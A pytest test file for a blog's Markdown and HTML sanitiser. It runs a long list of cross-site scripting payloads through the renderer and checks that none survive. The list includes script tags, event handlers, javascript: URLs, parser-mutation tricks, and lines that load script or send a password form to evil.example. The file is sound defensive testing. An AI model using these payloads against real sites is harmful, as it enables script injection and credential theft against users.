"""What must never reach a page, looked for with a parser that is not the sanitiser's."""

import pytest

from blog.rendering import render
from blog.rendering.sanitising import sanitise
from tests.blog.rendering.allowed import Page

ATTACKS = [
    # Scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<script><!--<script>alert(1)</script>-->",
    "a <script type='module'>import('//evil.example')</script> b",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src='x' OnErRoR='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<b onmouseover=alert(1)>b</b>",
    "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "<div onpointerenter=alert(1) tabindex=1 autofocus onfocus=alert(1)>a</div>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<a href=x onclick=alert(1)>a</a>",
    "<p style=animation-name:x onanimationstart=alert(1)>a",
    "<time datetime=x onclick=alert(1)>a</time>",
    # Foreign content, and what changes its meaning when parsed again
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>a</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><a title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<iframe><a title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<style><a title='</style><img src=x onerror=alert(1)>'></style>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=alert(1)>'>]>&x;",
    "<table><tr><td><svg><desc><td><img src=x onerror=alert(1)></desc></svg></table>",
    "<p><table><a href='x'><img src=x onerror=alert(1)></a></table></p>",
    "<a title='`&lt;img src=x onerror=alert(1)&gt;'>a</a>",
    # Addresses
    "<a href='javascript:alert(1)'>a</a>",
    "<a href='JaVaScRiPt:alert(1)'>a</a>",
    "<a href=' javascript:alert(1)'>a</a>",
    "<a href='&#1;javascript:alert(1)'>a</a>",
    "<a href='java\tscript:alert(1)'>a</a>",
    "<a href='java\nscript:alert(1)'>a</a>",
    "<a href='java&#x0A;script:alert(1)'>a</a>",
    "<a href='java&Tab;script&colon;alert(1)'>a</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>a</a>",
    "<a href='&#0000106avascript:alert(1)'>a</a>",
    "<a href='vbscript:msgbox(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='blob:https://example.org/x'>a</a>",
    "<a href='view-source:javascript:alert(1)'>a</a>",
    "<a href='feed:javascript:alert(1)'>a</a>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='data:image/svg+xml,x 1x, javascript:alert(1) 2x' src=x>",
    "<img lowsrc='javascript:alert(1)' dynsrc='javascript:alert(1)' longdesc='javascript:alert(1)'>",
    "<picture><source srcset='javascript:alert(1)'><img src=x></picture>",
    "<q cite='javascript:alert(1)'>a</q> <blockquote cite='javascript:alert(1)'>b</blockquote>",
    "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>a</table>",
    "<a href=x ping='https://evil.example' target=_blank download>a</a>",
    # The page around it
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<div style='position:fixed;inset:0;background:url(javascript:alert(1))'>a</div>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.example/'><input name=password><button>Go</button></form>",
    "<button form=login formaction='javascript:alert(1)'>a</button>",
    "<input type=image src=x formaction='https://evil.example/'>",
    "<input type=checkbox onchange=alert(1)> <input autofocus onfocus=alert(1)>",
    "<isindex action='javascript:alert(1)'>",
    "<dialog open>a</dialog><frameset onload=alert(1)><keygen autofocus onfocus=alert(1)>",
    "<h2 id=session>a</h2><a id=forms name=cookie>b</a><img name=getElementById id=body>",
    "<li id=csrf_token>a</li><form id=x><input id=attributes name=parentNode></form>",
    "<div class='flash head foot' role=alert aria-label='Sign in' tabindex=5>a</div>",
    "<span class='k evil' contenteditable data-x=1 is=x slot=y part=z nonce=n>a</span>",
    "<a href=# accesskey=s autofocus tabindex=1>a</a>",
    # Through Markdown
    "[a](javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](JAVASCRIPT&colon;alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a]( javascript:alert(1) 'title' )",
    "[a](\x01javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a](data:image/png;base64,iVBORw0KGgo=)",
    '![a"onerror="alert(1)](x)',
    '![a](x "t\\"onerror=\\"alert(1)")',
    '![a](x"onerror="alert(1))',
    "[a](x 'y\" onclick=\"alert(1)')",
    "[a]\n\n[a]: javascript:alert(1)",
    "[a]\n\n[a]: <java\tscript:alert(1)> 'x'",
    "![a]\n\n[a]: data:text/html,x",
    "[![a](x)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "https://example.org/\"onmouseover=\"alert(1)",
    "https://example.org/<script>alert(1)</script>",
    "a[^<script>] [^\"onclick=alert(1)//]\n\n[^<script>]: b\n\n[^\"onclick=alert(1)//]: c",
    "[^a]\n\n[^a]: <img src=x onerror=alert(1)> [b](javascript:alert(1))",
    '```"><script>alert(1)</script>\nx\n```',
    '```python" onclick="alert(1)\nx = "<script>"\n```',
    "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    "~~~ class=evil {#session .x onclick=alert(1)}\nx\n~~~",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)> \"onclick=\"alert(1)",
    "| <script>alert(1)</script> | b |\n|:-:|-|\n| <img src=x onerror=alert(1)> | [a](javascript:alert(1)) |",
    "- [ ] <input onfocus=alert(1) autofocus>\n- [x](javascript:alert(1))",
    "*<b onclick=alert(1)>*</b>_<i onclick=alert(1)>_</i>",
    "<a href='\n\njavascript:alert(1)'>a</a>",
    "<div\n\nonclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<ſcript>alert(1)</ſcript> <K>a</K>",
    "<a\xa0href='javascript:alert(1)'>a</a> <img\u2028src=x\u2028onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
]  # fmt: skip


def test_there_are_enough_attacks():
    assert len(set(ATTACKS)) == len(ATTACKS) > 120


def test_the_parser_of_these_tests_sees_attacks():
    assert len([attack for attack in ATTACKS if Page(attack).faults]) > 80


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_words_or_nothing(attack):
    html = render(attack)
    assert Page(html).faults == []
    # Parsed and written once more, it is the same: nothing in it changes its meaning on the way to a reader.
    assert sanitise(html) == html


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_sanitiser_alone_would_stop_it_too(attack):
    faults = Page(sanitise(attack)).faults
    assert [fault for fault in faults if not fault.startswith("<input {'type': 'checkbox'")] == []


@pytest.mark.parametrize(
    "around", ["> {}", "- {}", "# {}", "**{}**", "[{}](x)", "![{}](x)", "a[^1]\n\n[^1]: {}", "<b>{}", "|a|\n|-|\n|{}|"]
)
def test_no_place_in_a_text_lets_one_through(around):
    for attack in ATTACKS:
        assert Page(render(around.replace("{}", attack))).faults == [], attack


@pytest.mark.parametrize(
    "html",
    [
        '<figure><img src="/media/a" alt="b" width="1" height="2" title="c" loading="lazy"><figcaption>d</figcaption></figure>',
        '<table><tbody><tr><th scope="row" align="left">a</th><td colspan="2" rowspan="2">b</td></tr></tbody></table>',
        "<p><sup>a</sup><sub>b</sub><mark>c</mark><del>d</del><ins>e</ins><kbd>f</kbd><q>g</q><small>h</small></p>",
        '<p lang="ar" dir="rtl"><bdi>a</bdi> <ruby>漢<rp>(</rp><rt>b</rt><rp>)</rp></ruby> <time datetime="2026-01-01">c</time></p>',
        '<dl><dt>a</dt><dd>b</dd></dl><ol start="3" reversed=""><li value="7">c</li></ol>',
        '<p><a href="/a?b=c#d" rel="noopener">a</a> <a href="//example.org" rel="noopener">b</a></p>',
    ],
)  # fmt: skip
def test_what_a_post_may_hold_stays_as_it_is(html):
    assert render(html) == html
    assert Page(html).faults == []
